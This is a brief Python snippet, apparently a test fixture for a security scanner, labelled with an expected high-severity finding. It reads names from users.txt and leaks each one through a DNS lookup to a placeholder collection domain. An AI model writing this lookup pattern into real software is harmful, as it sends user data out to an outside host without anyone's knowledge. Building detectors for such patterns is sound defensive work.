# expect: CDN609:high
import socket

for line in open("users.txt"):
    name = line.strip()
    socket.gethostbyname(name + ".collect.example.invalid")
